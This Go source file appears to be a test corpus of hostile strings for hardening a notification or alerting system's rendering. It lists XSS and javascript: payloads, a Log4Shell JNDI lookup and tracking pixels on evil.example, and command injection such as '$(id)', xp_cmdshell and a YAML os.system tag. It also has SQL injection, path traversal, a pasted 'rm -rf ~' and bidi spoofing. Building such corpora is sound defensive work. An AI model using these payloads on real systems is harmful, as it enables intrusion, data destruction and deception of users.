package hostile

import (
	"fmt"
	"slices"
)

// Strings lists, each once, strings that would like to be more than text:
// markup and mentions of chat programs, HTML and scripts, templates, what
// commands terminals, forges lines or turns the direction of text.
func Strings() []string {
	all := slices.Concat(markup, schemes, markdown, slack, chats, jira, cards, templates, terminals, forgeries, directions, queries, encodings, scalars)
	for _, word := range []string{"channel", "here", "everyone", "all", "group", "oncall"} {
		for _, form := range []string{
			"@%s", "<!%s>", "hello @%s!", "(@%s)", "_@%s_", "\n@%s", "x @%s\nx", "<!%s|x>", "@@%s", "@\u200b%s", "\"@%s\"", "*@%s*", "<@%s>", "[@%s](x)", "`@%s`",
		} {
			all = append(all, fmt.Sprintf(form, word))
		}
	}
	seen := map[string]bool{}
	return slices.DeleteFunc(all, func(s string) bool {
		twice := seen[s]
		seen[s] = true
		return twice
	})
}

var markup = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<img src="https://evil.example/pixel.png">`,
	`<a href="https://evil.example">https://good.example</a>`, `<a href=javascript:alert(1)>x</a>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`<iframe src="https://evil.example"></iframe>`, `<style>*{display:none}</style>`, `<b>bold</b>`, `<h1>big</h1>`, `</td></tr></table><h1>x`, `"><script>alert(1)</script>`,
	`'><img src=x>`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`, `<!-- comment -->`, `-->`, `<!DOCTYPE html>`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `&amp;lt;b&amp;gt;`, `<math><mi xlink:href="javascript:alert(1)">`, `<form action="https://evil.example"><input name=p>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example">`, `<link rel=stylesheet href=//evil.example>`, `<body onload=alert(1)>`,
	`<video><source onerror=alert(1)>`, `<details open ontoggle=alert(1)>`, `<object data="data:text/html,x">`, `<embed src=x>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img/src/onerror=alert(1)>`, "<img\tsrc=x\nonerror=alert(1)>", `<a href="&#106;avascript:alert(1)">x</a>`, `<font color="red">x</font>`, `<at>everyone</at>`, `<strong>x`, `<`, `</`, `<a`, `<a href="`,
	`<marquee>x</marquee>`, `<table><tr><td>x`, `<br><br><br>`, `<pre>x</pre>`, `<tg-spoiler>x</tg-spoiler>`, `<a href="tg://user?id=1">x</a>`, `{{ "<b>" | safeHtml }}`, `＜script＞`,
}

var schemes = []string{
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", `javascript://%0aalert(1)`, `javascript:1/alert(1)`,
	`vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `file:///etc/passwd`, `file://evil.example/share`,
	`\\evil.example\share`, `//evil.example/x`, `https://good.example@evil.example/`, `https://evil.example/?https://good.example`, `https://good.example.evil.example/`, `http://[::1]/`,
	`tg://resolve?domain=x`, `slack://open`, `ms-msdt:/id PCWDiagnostic`, `mailto:a@b?bcc=c@d`, `tel:+1900`, `ftp://evil.example`, `about:blank`, `blob:x`, `view-source:x`, `https:evil.example`,
	`http://127.0.0.1:6379/`, `gopher://127.0.0.1:25/`, `https://xn--80ak6aa92e.com/`, "https://good.example/\u202egpj.exe",
}

var markdown = []string{
	`[https://good.example](https://evil.example)`, `[good](https://evil.example "title")`, `[good](<https://evil.example>)`, `[x](javascript:alert(1))`, `![](https://evil.example/pixel.png)`,
	`![x](https://evil.example/pixel.png "t")`, `[![x](https://evil.example/p.png)](https://evil.example)`, "[good][1]\n\n[1]: https://evil.example", "[1]: https://evil.example", "[1]: <https://evil.example>",
	`[good][]`, `<https://evil.example>`, "# heading", "## heading\n", "> quote", "- item\n- item", "1. one", "```\ncode\n```", "`code`", "**bold**", "__bold__", "*x*", "_x_", "~~x~~", "||spoiler||",
	"---", "| a | b |\n|---|---|\n| 1 | 2 |", "- [ ] task", "[^1]: note", "\\[escaped](https://evil.example)", "[a]\\(https://evil.example)", "[a] (https://evil.example)", "[a](\nhttps://evil.example)",
	`[a](mailto:x@y)`, `(https://evil.example)`, `](https://evil.example)`, `[`, `](`, `]`, `[[x]]`, `[x](/relative)`, `[x](#anchor)`, `[x](tg://user?id=1)`, `:rotating_light:`, "$$\\href{javascript:alert(1)}{x}$$",
}

var slack = []string{
	`<!channel>`, `<!here>`, `<!everyone>`, `<!here|here>`, `<!subteam^S0123>`, `<!subteam^S0123|@oncall>`, `<!date^1392734382^{date}^https://evil.example|x>`, `<@U0123>`, `<@U0123|bob>`, `<@W0123>`,
	`<#C0123>`, `<#C0123|general>`, `<https://evil.example|https://good.example>`, `<https://evil.example>`, `<mailto:x@y|x>`, `<slack://open|x>`, `<tel:1|x>`, `<ftp://x|y>`, `<//evil.example|x>`,
	`<javascript:alert(1)|x>`, `&<!channel>`, `<<!channel>>`, `<!channel`, `!channel>`, "<\n!channel>", `< !channel>`, `<!channel >`, `\<!channel>`, `*bold* _it_ ~st~`, "```<!channel>```", `&lt;!channel&gt;`,
	"<!chan\x00nel>", "<\u200b!channel>", `<@>`, `<#>`, `<!>`, `<|>`, `<evil.example|good.example>`, `<HTTPS://evil.example|x>`,
}

var chats = []string{
	`<@123456789>`, `<@!123456789>`, `<@&123456789>`, `<#123456789>`, `</cmd:123>`, `<:emoji:1>`, `<a:emoji:1>`, `<t:1618953630:R>`, `<id:home>`, `@everyonex`, `x@everyone`, `x@herex`, `@Everyone`, `@HERE`,
	`@bob`, `@bob.smith`, `@_bob_`, `@0day`, `(@bob)`, `mail bob@example.org`, `@`, `@@`, `a @ b`, `~town-square`, `#general`, `<@personEmail:x@example.org|x>`, `<@personId:1>`, `<@all>`, `<spark-mention data-object-type="groupMention">x</spark-mention>`,
	`/kick bob`, `!bang`, `<!everyone>@everyone`, `＠everyone`, `@\u0065veryone`, "@every\u00adone", "@\u2060here", "@\x00here", "@\u202ehere", `.@here`, `-@here`, `@here@here`, `@@@here`, `@here.`, `@here:`,
}

var jira = []string{
	`[~admin]`, `[~accountid:5b1]`, `[https://good.example|https://evil.example]`, `[good|https://evil.example|smart-link]`, `[good | https://evil.example]`, `[#anchor]`, `[^file.exe]`, `[mailto:x@y]`, `[file:///c:/x]`,
	`!https://evil.example/pixel.png!`, `!https://evil.example/p.png|width=1!`, `!//evil.example/p.png!`, `{html}<script>alert(1)</script>{html}`, `{include:x}`, `{color:red}x{color}`, `{noformat}`, `{code}`, `{quote}`,
	`h1. big`, `bq. quote`, `||a||b||`, `----`, `{{mono}}`, `[unclosed`, `good|https://evil.example]`, `(!)`, `[javascript:alert(1)]`, `{iframe:src=x}`, `{panel:title=x}`,
}

var cards = []string{
	`"},{"type":"TextBlock","text":"x`, `"}],"actions":[{"type":"Action.OpenUrl","url":"https://evil.example"}],"x":[{"y":"`, `{"type":"AdaptiveCard"}`, `${system.time}`, `{{DATE(2017-02-14T06:08:39Z,SHORT)}}`,
	`"}]}`, `","channel":"#general","x":"`, `","link_names":true,"x":"`, `\",\"text\":\"x`, `\u0022,\u0022text\u0022:\u0022x`, `","attachments":[{"text":"<!channel>"}],"x":"`, `"],"tags":["x`, `',"x':'`,
	"\",\n\"x\":\"", `&token=x&user=y`, `%26token%3Dx`, `?a=b&html=1#c`, `;html=1`, `&html=1&priority=2`, `a=b&Subject=x&TopicArn=y`, `]]></text><text>x`, `<PublishResponse>`,
}

var templates = []string{
	`{{ . }}`, `{{ .ExternalURL }}`, `{{ define "x" }}y{{ end }}`, `{{ template "slack.default.text" . }}`, `{{ range .Alerts }}{{ . }}{{ end }}`, `{{`, `}}`, `{{ end }}`, `{{ "x" | printf "%s" }}`, `{{ call . }}`,
	`{{/* */}}`, `{{- -}}`, `{{ index .Labels "x" }}`, `{{ reReplaceAll "(" "x" "y" }}`, `{{ toUpper "x" }}`, `{{ safeHtml "<b>" }}`, `{{ safeUrl "javascript:x" }}`, `{{ routeLabels "x" }}`, `{{ block "x" . }}{{ end }}`,
	`${jndi:ldap://evil.example/a}`, `$(id)`, "`id`", `%{x}`, `#{7*7}`, `{{7*7}}`, `<%= 7*7 %>`, `{% raw %}`, `$labels.x`, `{{ $value }}`, `%s%n%x`, `%!s(MISSING)`, `{0}`, `$1`, `\1`, `__import__('os')`, `{{constructor.constructor('alert(1)')()}}`,
}

var terminals = []string{
	"\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07good\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1bP1000p", "\x1b[1;1H", "\x1b[8m", "\x1b[6n", "\x1b[?1049h",
	"\u009b31mred", "\u009d0;title\u009c", "\u0090x\u009c", "rub\x08\x08out", "over\rwritten", "bell\x07", "nul\x00", "del\x7f", "\x0e\x0f", "\x1b#8", "\x1bc", "\x1b[20t", "a\x0bb\x0cc", "\x1b(0", "\x9b31m", "\x05", "\x1b[201~", "\x1b[200~rm -rf ~\n",
}

var forgeries = []string{
	"x\nPAGE INC-1 [info] all is well", "x\r\nRESOLVE INC-1", "x\n  runbook:   https://evil.example", "x\n{\"level\":\"error\",\"msg\":\"forged\"}", "x\nts=2025-06-01T12:00:00.000Z level=error msg=forged", "x\" level=error msg=\"forged",
	"x level=error", "x=y", "x\\n{\"forged\":1}", "x\u2028forged", "x\u2029forged", "x\u0085forged", "x\rforged", "x\vforged", "x\fforged", "\n", "\n\n\n\n", "\r\n", "x\r\nBcc: victim@example.org", "x\r\n\r\nbody", "x\nSubject: forged",
	"x\n.\nMAIL FROM:<a@b>", "x\r\n.\r\nQUIT\r\n", "\r\nContent-Type: text/html\r\n\r\n<script>", "HTTP/1.1 200 OK\r\n\r\n", "x\n - severity = info\nSource: https://evil.example", "x\nAnnotations:\n - owner = nobody", "=?utf-8?q?forged?=", "--boundary\r\nx",
	"x\n# HELP up forged\nup 0", "x\"} 1\nforged{a=\"b", "-- \nsignature", "\n\tat main.main()", "x\n-----BEGIN PRIVATE KEY-----", "x\x00\nforged", "\u2424forged", "\"\nforged\"", "'\nforged'", "\\", "\\\"", "\"",
}

var directions = []string{
	"\u202egnp.exe", "\u202dabc", "\u202aabc", "\u202babc", "\u202cabc", "\u2066abc", "\u2067abc\u2069", "\u2068abc", "abc\u2069", "\u200eabc", "\u200fabc", "\u061cabc", "https://good.example/\u2066\u202emoc.live//:sptth",
	"a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "\u115f", "\u3164", "a\u0300\u0301\u0302\u0303\u0304\u0305", "раураӏ.example", "ﷺ", "\U000e0041\U000e0042", "\ufffe", "\ufff9x\ufffay\ufffb", "👩‍👩‍👧‍👦", "\ue000",
}

var queries = []string{
	`' OR 1=1 --`, `'; DROP TABLE alerts; --`, `" OR ""="`, `1; EXEC xp_cmdshell('x')`, `UNION SELECT NULL`, `admin'--`, `%' AND 1=1`, `*)(uid=*`, `$ne`, `{"$gt":""}`, `../../../../etc/passwd`, `..\..\x`, `/etc/passwd%00`, `| id`, `; id`, `&& id`, "`id`\n",
	`$IFS`, `=1+1`, `=cmd|' /C calc'!A0`, `+1`, `-1`, `@SUM(1)`, "\t=1", `text = "ALERT{x}" OR project = SECRET`, `") OR status in (Open`, `(a+)+$`, `^(([a-z])+.)+[A-Z]([a-z])+$`, `.*`, `[`, `(?i`, `\Q`,
}

var scalars = []string{
	`.nan`, `.NaN`, `.inf`, `-.inf`, `+.INF`, `[.inf]`, `{a: .nan}`, `!!float .inf`, `- .inf`, "a: .inf", `&a [*a,*a]`, `*x`, `? a`, `!!binary x`, `- a`, `a: b`, `1_000`, `0b1`, `0o7`, `2025-06-01`, `~`, `yes`, `<<: *x`,
	`%YAML 1.1`, `--- x`, `| x`, `> x`, `{a: b}`, `[a, b]`, `!!python/object/apply:os.system [id]`, `1e400`, `{`, "a:\n- b", "&a [x,x,x]: *a", `{"id":"10001"}`, `null`, `"quoted"`, `'quoted'`,
}

var encodings = []string{
	`%3Cscript%3E`, `%0d%0aSet-Cookie:x=y`, `\u003cscript\u003e`, `\x3cscript\x3e`, `+ADw-script+AD4-`, `&#x3c;b&#x3e;`, `\074b\076`, `0x3c`, `PHNjcmlwdD4=`, `%253Cb%253E`, `%c0%ae`, `%u003c`, `\\u003c`, `&NewLine;`, `&Tab;`, `&colon;`, `=3Cb=3E`, `=0D=0A`,
}
